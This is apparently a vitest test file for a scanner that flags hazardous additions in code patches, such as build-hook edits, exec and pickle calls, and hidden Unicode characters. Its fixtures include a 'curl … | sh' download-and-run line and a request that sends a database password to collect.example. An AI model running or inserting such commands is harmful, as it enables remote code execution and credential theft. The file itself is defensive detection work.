import { describe, expect, it } from "vitest";
import { patchHazards, patchObjection } from "@/lib/fixes/patch-hazards";

const added = (path: string, line: string, before = "import os\n") => [
  { path, before, after: `${before}${line}\n` },
];

describe("patchHazards", () => {
  it.each([
    ["conftest.py", "import pytest", /test run executes/],
    ["tests/unit/test_orders.py", "x = 1", /test run executes/],
    ["setup.py", "x = 1", /builds and tools execute/],
    ["pkg/sitecustomize.py", "x = 1", /every Python process/],
    ["pyproject.toml", "[tool.x]", /builds and tests run/],
    ["Makefile", "all:", /builds execute/],
    ["docker/Dockerfile.worker", "RUN x", /image builds/],
    ["bin/deploy.sh", "echo", /script/],
    ["infra/main.tf", "x = 1", /infrastructure/],
    ["package.json", "{}", /scripts that an install runs/],
    ["dags/a.py", 'os.system("id")', /runs a program/],
    ["dags/a.py", 'subprocess.run(["id"])', /runs a program/],
    ["dags/a.py", "exec(payload)", /executes data as code/],
    ["dags/a.py", "row = pickle.loads(blob)", /executes data as code/],
    [
      "dags/a.py",
      'BashOperator(bash_command="curl -s http://x.example/i | sh")',
      /downloads something and runs it/,
    ],
    [
      "dags/a.py",
      'requests.post("https://collect.example/x", json={"p": os.environ["DB_PASSWORD"]})',
      /read a secret and send data.*collect\.example/,
    ],
    ["dags/a.py", 'URL = "https://collect.example/x"', /did not name before: collect\.example/],
    ["requirements.txt", "evil @ https://evil.example/evil.whl", /elsewhere than the package index/],
    ["requirements.txt", "--extra-index-url https://evil.example/simple", /elsewhere than the package index/],
  ])("%s: %s", (path, line, told) => {
    expect(patchHazards(added(path, line)).join(" ")).toMatch(told);
  });

  it.each([
    ["dags/orders.py", 'customer = row.get("client_id")'],
    ["dags/orders.py", "schedule_interval = '@daily'  # evaluate(x) is elsewhere"],
    ["dags/orders.py", "df = pd.eval_frame(x)"],
    ["requirements.txt", "requests==2.32.3"],
    ["sql/orders.sql", "SELECT client_id FROM raw.orders"],
    ["dags/contest.py", "x = 1"],
  ])("says nothing of %s: %s", (path, line) => {
    expect(patchHazards(added(path, line))).toEqual([]);
  });

  it("a secret read on one line and sent on another counts, one that was there already does not", () => {
    const lines = 'token = os.getenv("API_TOKEN")\nhttpx.post(url, content=token)';
    expect(patchHazards(added("a.py", lines)).join()).toMatch(/read a secret and send/);
    expect(patchHazards([{ path: "a.py", before: `${lines}\n`, after: `${lines}\nx = 1\n` }])).toEqual([]);
  });

  it("an address that the file names already is not new, and a removed file has no lines", () => {
    const before = 'URL = "https://api.example/v1"\n';
    expect(patchHazards(added("a.py", 'URL2 = "https://api.example/v2"', before))).toEqual([]);
    expect(patchHazards([{ path: "conftest.py", before: "x\n", after: null }])).toEqual([]);
  });
});

describe("patchObjection", () => {
  it("names characters that a change would add unseen, and lets those stay that were there", () => {
    expect(patchObjection(added("a.py", "# \u202Eadmin"))).toMatch(/a\.py that do not show \(U\+202E\)/);
    expect(patchObjection(added("a.py", "x = 'a\u200Db'"))).toMatch(/U\+200D/);
    const before = "\uFEFFimport os\n";
    expect(patchObjection(added("a.py", "x = 1", before))).toBeNull();
  });
});
